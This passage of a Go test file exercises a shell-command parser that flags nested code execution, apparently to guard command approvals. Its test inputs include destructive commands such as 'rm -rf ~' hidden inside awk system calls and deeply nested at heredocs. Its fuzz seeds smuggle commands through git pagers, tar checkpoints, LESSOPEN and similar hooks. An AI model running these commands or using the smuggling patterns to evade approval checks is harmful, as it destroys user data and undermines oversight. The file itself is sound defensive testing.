		`fd -e go`,
		`sort -u f`,
		`npx prettier --check .`,
		`go test ./...`,
		`apt-get -o Acquire::Retries=3 update`,
	} {
		r := shellparse.Parse(line)
		// A nested echo, sh -c's own string, ... is fine: what the
		// misses must not have is a program the line does not show.
		risky := nestedRuns(r)
		if unknownCode(r) {
			t.Errorf("%q: marked as running unknown code (nested %q)", line, risky)
		}
		for _, n := range risky {
			for _, bad := range []string{"rm ", "id", "chmod", "curl"} {
				if strings.HasPrefix(n, bad) {
					t.Errorf("%q: runs %q", line, n)
				}
			}
		}
	}
}

// TestCodeRunsFlags: the invocation that runs static code hands a string
// to a shell (prefix approvals refuse it); the nested invocations say who
// runs them.
func TestCodeRunsFlags(t *testing.T) {
	r := shellparse.Parse(`awk 'BEGIN{system("rm -rf ~")}' && ls`)
	if len(r.Invocations) < 3 || !r.Invocations[0].RunsShellInput || r.Invocations[1].Parent != 0 {
		t.Fatalf("invocations %+v", r.Invocations)
	}
	inner := r.Invocations[1]
	if inner.Name != "rm" || !inner.Where.Has(shellparse.FrameShellString) || inner.Depth != 1 {
		t.Errorf("inner %+v at %s", inner, inner.Where.Path())
	}
	if r.Invocations[2].Name != "ls" || r.Invocations[2].Parent != -1 {
		t.Errorf("the statement after the code was lost: %+v", r.Invocations[2])
	}
	// Code in code: bounded like shell strings (heredocs nest without
	// quoting, so the line stays small).
	var b strings.Builder
	for i := range 20 {
		b.WriteString("at now <<'E" + string(rune('a'+i)) + "'\n")
	}
	b.WriteString("rm -rf ~\n")
	for i := 19; i >= 0; i-- {
		b.WriteString("E" + string(rune('a'+i)) + "\n")
	}
	if r := shellparse.Parse(b.String()); r.OK() {
		t.Error("20 levels of at in at accepted without a limit")
	}
}

// FuzzCodeRuns puts fuzzed text where programs take code (awk, sed, vim,
// git -c, make --eval, ...) and checks the parser's invariants.
func FuzzCodeRuns(f *testing.F) {
	for _, s := range []string{`BEGIN{system("rm -rf ~")}`, `1e id`, `!id`, `core.pager=id`, `all: ; id`, `(shell-command "id")`, `shell id`,
		`spawn sh -c id`, `exec=id`, `rm -rf ~`} {
		f.Add(s)
	}
	p := shellparse.New(shellparse.Limits{})
	shapes := []string{"awk %s", "sed %s f", "vim -c %s", "git -c %s log", "make --eval=%s", "emacs --eval %s", "gdb -ex %s",
		"expect -c %s", "tar --checkpoint-action=%s", "echo %s | xargs -I{} sh -c {}", "echo %s | at now", "parallel ::: %s",
		"tmux send-keys %s Enter", "screen -X stuff %s", "trap %s EXIT", "LESSOPEN=%s less f", "source <(echo %s)"}
	f.Fuzz(func(t *testing.T, s string) {
		q := "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
		for _, shape := range shapes {
			checkInvariants(t, p.Parse(strings.Replace(shape, "%s", q, 1)))
		}
	})
}
